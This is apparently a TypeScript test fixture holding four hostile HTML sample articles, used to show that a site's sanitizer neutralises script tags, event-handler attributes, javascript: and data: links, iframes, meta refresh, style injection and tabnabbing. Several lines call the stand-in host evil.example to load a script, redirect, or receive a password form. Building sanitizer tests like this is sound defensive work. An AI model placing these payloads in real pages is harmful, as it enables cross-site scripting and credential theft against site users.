/**
 * Hostile HTML samples: four Acme Outdoor articles whose bodies mix normal content with markup a
 * sanitizer must neutralise. They exist so stories and tests can show that nothing executes.
 */

/** One hostile sample; the data set builder adds ids, dates and the remaining fields. */
export interface HostileSample {
  slug: string;
  title: string;
  description: string;
  content: string;
}

const INTRO =
  '<p>This article is part of the <strong>security demo</strong>. Its body was written by a ' +
  'hostile editor: a safe renderer shows the text and drops everything that could run code.</p>';

export const HOSTILE_SAMPLES: readonly HostileSample[] = [
  {
    slug: 'security-demo-script-and-event-handlers',
    title: 'Security demo: script and event handlers <b>not bold</b>',
    description: 'Shows that <script> elements and on* event handlers in article bodies never run.',
    content: [
      INTRO,
      '<h2>Packing for a rainy day</h2>',
      '<p>A waterproof jacket and a spare pair of socks make a wet hike bearable.</p>',
      '<script>alert(1)</script>',
      '<p>Keep your phone in a zip bag.<img src=x onerror="alert(1)"></p>',
      '<svg onload=alert(1)><circle cx="5" cy="5" r="4"></circle></svg>',
      '<ul><li onmouseover="alert(1)">Rain cover for the pack</li><li>Dry bag for the sleeping bag',
      '</li></ul>',
      '<p>Scripts can hide in odd places: <SCRIPT SRC="https://evil.example/x.js"></SCRIPT></p>',
      '<h3>Checklist</h3><ol><li>Jacket</li><li>Socks</li><li>Map in a sleeve</li></ol>',
    ].join('\n'),
  },
  {
    slug: 'security-demo-dangerous-links',
    title: 'Security demo: javascript: and data: links',
    description:
      'Links with javascript: and data: URLs, in any letter case, must not be clickable.',
    content: [
      INTRO,
      '<h2>Our favourite campsites</h2>',
      '<p>Read the <a href="javascript:alert(1)">campsite rules</a> before you arrive, and the ',
      '<a href="JaVaScRiPt:alert(1)">booking conditions</a> too.</p>',
      '<p>Download the <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
      'site map</a> or the <a href="&#106;avascript:alert(1)">encoded version</a>.</p>',
      '<p>A normal external link that still needs a rel attribute: ',
      '<a href="https://example.com" target="_blank">example.com</a>.</p>',
      '<p>And a relative one that must keep working: <a href="/c/camping">more camping</a>.</p>',
    ].join('\n'),
  },
  {
    slug: 'security-demo-iframes-forms-and-meta-refresh',
    title: 'Security demo: iframes, forms & "meta refresh"',
    description:
      'Embedded frames, password forms and meta refresh redirects must be removed from bodies.',
    content: [
      INTRO,
      '<meta http-equiv="refresh" content="0;url=https://evil.example">',
      '<h2>Caring for your boots</h2>',
      '<p>Clean off the mud, let them dry slowly and wax the leather.</p>',
      '<iframe src="https://evil.example" width="600" height="400"></iframe>',
      '<p>Log in to see our full boot-care guide:</p>',
      '<form action="https://evil.example"><input name="username">',
      '<input name="password" type="password"><button type="submit">Log in</button></form>',
      '<object data="https://evil.example/x.swf"></object>',
      '<p>Store boots with newspaper inside, away from the radiator.</p>',
    ].join('\n'),
  },
  {
    slug: 'security-demo-style-injection-and-tabnabbing',
    title: 'Security demo: style injection & target="_blank" <b>not bold</b>',
    description: 'Global styles and overlays must not change the page, and new tabs get rel.',
    content: [
      INTRO,
      '<style>body{display:none}</style>',
      '<h2>Repair before you replace</h2>',
      '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">',
      'A broken zip can often be fixed with pliers and a new slider.</p>',
      '<link rel="stylesheet" href="https://evil.example/evil.css">',
      '<p>Find a repair café near you at <a href="https://example.com" target="_blank">',
      'example.com</a> and read our <a href="/en/buying-second-hand-gear">second-hand guide</a>.',
      '</p>',
      '<base href="https://evil.example/">',
      '<table><thead><tr><th>Item</th><th>Fix</th></tr></thead><tbody><tr><td>Zip</td>',
      '<td>New slider</td></tr><tr><td>Tear</td><td>Patch</td></tr></tbody></table>',
    ].join('\n'),
  },
];
